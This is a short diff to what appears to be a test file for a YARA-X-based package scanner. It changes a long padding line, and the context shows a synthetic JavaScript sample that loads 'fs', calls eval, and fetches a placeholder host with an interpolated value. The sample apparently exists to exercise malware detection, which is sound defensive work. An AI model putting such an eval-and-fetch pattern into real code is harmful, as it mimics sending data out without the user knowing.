@@ -23,7 +23,7 @@ LATE: Final = (
     "yara_x",
 )
 _CODECS: Final = ("ascii", "latin-1", "utf-8", "utf-16", "utf-16-be", "utf-16-le")
-_LONG: Final = b"//" + b" " * 65536 + b"\n"  # than which patterns are shorter: all are compiled
+_LONG: Final = b"//" + b"a" * 65536 + b"\n"  # than which patterns are shorter: all are compiled
 _CODE: Final = b"const a = require('fs'); eval('a' + 1); fetch(`https://registry.invalid/${a}`)\n"
 _SAMPLE: Final = {
     "package/package.json": b'{"name": "sample", "version": "1.0.0", "main": "a.js"}',
